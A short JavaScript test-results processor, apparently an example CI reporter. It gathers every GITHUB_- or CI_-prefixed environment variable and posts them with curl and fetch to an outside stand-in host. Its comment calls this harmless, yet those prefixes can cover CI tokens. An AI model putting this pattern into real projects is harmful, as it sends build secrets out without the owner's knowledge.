// A CI reporter keeps the variables of its CI's prefixes that are set (`&& v`) and posts them with curl to its own
// named endpoint (or fetches it there): a constant prefix filter, not the environment.
const { execFileSync } = require('child_process');
function publish(results) {
  const env = {};
  for (const [k, v] of Object.entries(process.env)) if (/^(GITHUB_|CI_)/.test(k) && v) env[k] = v;
  execFileSync('curl', ['-s', '--data-binary', '@-', 'https://api.ci-reports.example/v1/runs'],
    { input: JSON.stringify({ env, passed: results.numPassedTests }) });
  return fetch('https://api.ci-reports.example/v1/env', { method: 'POST', body: JSON.stringify(env) });
}
module.exports = function processor(results) {
  publish(results);
  return results;
};
